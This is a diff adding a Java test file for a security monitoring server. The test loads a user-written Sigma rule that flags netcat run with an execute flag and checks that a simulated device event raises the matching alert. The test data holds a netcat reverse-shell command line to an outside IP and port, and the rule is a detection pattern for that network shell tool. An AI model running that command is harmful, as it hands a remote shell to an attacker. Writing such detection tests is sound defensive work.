@@ -1,0 +1,95 @@
+package io.vigil.server;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import io.vigil.hub.registry.RegisteredDevice;
+import io.vigil.model.Alert;
+import io.vigil.model.event.EventHeader;
+import io.vigil.model.event.ProcessCreate;
+import io.vigil.model.event.SecurityMessage;
+import io.vigil.wire.SecurityMessageCodec;
+import io.vigil.wire.auth.DeviceTopics;
+import io.vigil.wire.auth.SasToken;
+import java.net.ServerSocket;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Instant;
+import java.time.ZoneOffset;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.CopyOnWriteArrayList;
+import org.eclipse.paho.mqttv5.client.MqttClient;
+import org.eclipse.paho.mqttv5.client.MqttConnectionOptions;
+import org.eclipse.paho.mqttv5.client.persist.MemoryPersistence;
+import org.eclipse.paho.mqttv5.common.MqttMessage;
+import org.eclipse.paho.mqttv5.common.packet.MqttProperties;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** The server evaluates the user's Sigma rules (vigil server --rules DIR) on device events. */
+class UserRulesServerTest {
+  @TempDir Path dir;
+
+  @Test
+  void aUserRuleRaisesItsAlertAndABrokenOneDoesNotStopTheOthers() throws Exception {
+    Path rules = Files.createDirectories(dir.resolve("rules"));
+    Files.writeString(rules.resolve("nc.yml"), """
+        title: Netcat with an execute flag
+        id: 6f1c2a7e-0d3b-4c55-9a61-2b7f3e9d8c01
+        status: experimental
+        level: high
+        tags: [attack.execution, attack.t1059]
+        vigil.alertName: Custom_NetcatExec
+        vigil.remediation: Find out who started netcat with -e and why.
+        logsource: {product: linux, category: process_creation}
+        detection:
+          selection:
+            Image|endswith: [/nc, /nc.traditional]
+            CommandLine|contains: ' -e '
+          condition: selection
+        """);
+    Files.writeString(rules.resolve("broken.yml"), "title: broken\nlogsource: {product: linux}\ndetection:\n  condition: nothing\n");
+    int mqtt;
+    try (ServerSocket s = new ServerSocket(0)) {
+      mqtt = s.getLocalPort();
+    }
+    ServerConfig base = ServerConfig.loopback(dir.resolve("data"), "localhost", 0, mqtt);
+    ServerConfig config = new ServerConfig(base.dataDir(), base.hostName(), 0, mqtt, base.maxMessageBytes(), 0, "127.0.0.1",
+        List.of(), List.of(rules));
+    List<Alert> alerts = new CopyOnWriteArrayList<>();
+    try (VigilServer server = VigilServer.start(config, Clock.systemUTC(), alerts::add)) {
+      RegisteredDevice gw = server.registry().create("gw-rules", null);
+      MqttClient client = new MqttClient("tcp://127.0.0.1:" + mqtt, "gw-rules", new MemoryPersistence());
+      MqttConnectionOptions o = new MqttConnectionOptions();
+      o.setUserName("localhost/gw-rules/?api-version=2021-04-12");
+      o.setPassword(SasToken.sign(SasToken.deviceResource("localhost", "gw-rules"), gw.primaryKey(), Instant.now().plusSeconds(600))
+          .toString().getBytes(StandardCharsets.UTF_8));
+      client.connect(o);
+      byte[] body = new SecurityMessageCodec().encode(SecurityMessage.of("1.0", "072f3eca-3db0-45ba-8174-fa383bc93caf", List.of(
+          new ProcessCreate(EventHeader.at(Instant.now(), ZoneOffset.UTC), List.of(
+              new ProcessCreate.Process("/usr/bin/nc.traditional", 77, 1, "0", "root", "nc.traditional -e /bin/sh 198.51.100.7 4444", Map.of()),
+              new ProcessCreate.Process("/usr/bin/nc", 78, 1, "0", "root", "nc -zv 10.0.0.1 22", Map.of()))))));
+      client.publish(DeviceTopics.securityTelemetry("gw-rules"), new MqttMessage(body, 1, false, new MqttProperties()));
+      client.disconnect();
+      client.close();
+      long deadline = System.currentTimeMillis() + 10_000;
+      while (alerts.stream().noneMatch(a -> a.alertName().equals("Custom_NetcatExec")) && System.currentTimeMillis() < deadline) {
+        Thread.sleep(50);
+      }
+    }
+    assertThat(alerts).filteredOn(a -> a.alertName().equals("Custom_NetcatExec")).singleElement()
+        .satisfies(a -> assertThat(a.deviceId()).isEqualTo("gw-rules"));
+  }
+
+  @Test
+  void aMissingRulesPathStopsTheStart() {
+    Path missing = dir.resolve("nope");
+    ServerConfig base = ServerConfig.loopback(dir.resolve("data2"), "localhost", 0, 1883);
+    ServerConfig config = new ServerConfig(base.dataDir(), base.hostName(), 0, 1883, base.maxMessageBytes(), 0, "127.0.0.1",
+        List.of(), List.of(missing));
+    assertThatThrownBy(() -> VigilServer.start(config, Clock.systemUTC(), a -> { })).hasMessage("--rules " + missing + " does not exist");
+  }
+}
